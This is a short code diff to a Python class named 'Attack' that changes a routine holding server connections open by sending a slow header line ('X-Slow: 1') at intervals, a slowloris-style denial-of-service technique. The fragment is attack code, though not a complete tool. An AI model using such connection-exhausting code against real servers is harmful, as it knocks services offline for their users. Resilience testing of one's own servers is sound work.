@@ -80,11 +80,11 @@ class Attack:
             self.dropped += 1
 
     async def _trickle(self, stream: SocketStream) -> None:
+        """A header line every ``line_every_s``, until the server closes the connection (``EndOfStream``)."""
         while True:
             with anyio.move_on_after(self.line_every_s):
-                if not await stream.receive():
-                    return
-                continue  # the server answered something: keep holding the connection
+                await stream.receive()  # whatever the server says, keep holding the connection
+                continue
             await stream.send(b"X-Slow: 1\r\n")
 
 
